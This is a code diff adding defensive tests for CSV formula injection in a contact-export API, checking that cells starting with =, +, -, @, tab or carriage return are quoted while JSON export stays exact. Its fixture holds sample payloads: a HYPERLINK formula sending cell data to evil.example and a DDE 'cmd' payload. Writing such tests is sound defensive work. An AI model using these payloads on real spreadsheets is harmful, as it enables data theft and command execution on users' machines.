@@ -4,7 +4,7 @@ import { execFile } from 'node:child_process'
 import { resolve } from 'node:path'
 import { promisify } from 'node:util'
 import { beforeAll, describe, expect, test } from 'vitest'
-import { contactsAsCsv } from '../../api/server/exportContacts'
+import { contactsAsCsv, csvField } from '../../api/server/exportContacts'
 import type { ContactRecord } from '../../api/server/store/port'
 import { sqliteStore } from '../../api/server/store/sqlite'
 import { goodSales, goodSupport, tempDbPath } from './helpers'
@@ -81,5 +81,53 @@ describe('npm run api -- export contacts', () => {
       expect(code, args.join(' ')).toBe(2)
       expect(stderr).toContain('Usage: npm run api -- export contacts')
     }
+  })
+})
+
+// Security review 5, M3: a lead's text that a spreadsheet would run as a formula is written as text.
+describe('CSV injection (OWASP): every cell a visitor typed is neutralised, JSON stays exact', () => {
+  const attack: ContactRecord = {
+    id: 'd4',
+    kind: 'sales',
+    receivedAt: '2026-11-04T12:00:00.000Z',
+    spam: false,
+    data: {
+      ...goodSales,
+      name: '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
+      company: "+SUM(1+1)*cmd|' /C calc'!A0",
+      message: '@SUM(1,2)',
+      phone: '+966500000000',
+      website: '  -2+3',
+      merchantId: '\tTAB',
+      transactionId: '\r=1',
+    } as ContactRecord['data'],
+  }
+
+  test('a leading =, +, -, @, tab or carriage return (after spaces) gets a quote; RFC 4180 quoting stays', () => {
+    const csv = contactsAsCsv([attack])
+    const row = csv.split('\r\n')[1]!
+    expect(row).toContain('"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"')
+    expect(row).toContain("'+SUM(1+1)*cmd|' /C calc'!A0")
+    expect(row).toContain('"\'@SUM(1,2)"')
+    expect(row).toContain("'+966500000000")
+    expect(csvField('  -2+3')).toBe("'  -2+3")
+    expect(csvField('\tTAB')).toBe("'\tTAB")
+    expect(csvField('\r=1')).toBe('"\'\r=1"')
+    // Nothing else changes: plain text, Arabic, a hyphen inside, a boolean, a time.
+    for (const plain of ['Noura Al-Harbi', 'نورة الحربي', 'a-b', '2026-11-04T12:00:00.000Z'])
+      expect(csvField(plain)).toBe(plain)
+    expect(csvField(false)).toBe('false')
+    // No cell of the row starts a formula once a spreadsheet has unquoted it.
+    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))
+    for (const cell of cells) expect(cell, cell).not.toMatch(/^[ ]*[=+\-@\t\r]/)
+  })
+
+  test('JSON keeps what the visitor typed, exactly', { timeout: 30_000 }, async () => {
+    const store = sqliteStore(dbPath)
+    await store.saveContact(attack)
+    await store.close()
+    const { code, stdout } = await api('export', 'contacts', '--format', 'json', '--since', '2026-11-04')
+    expect(code).toBe(0)
+    expect((JSON.parse(stdout) as ContactRecord[])[0]!.data).toEqual(attack.data)
   })
 })
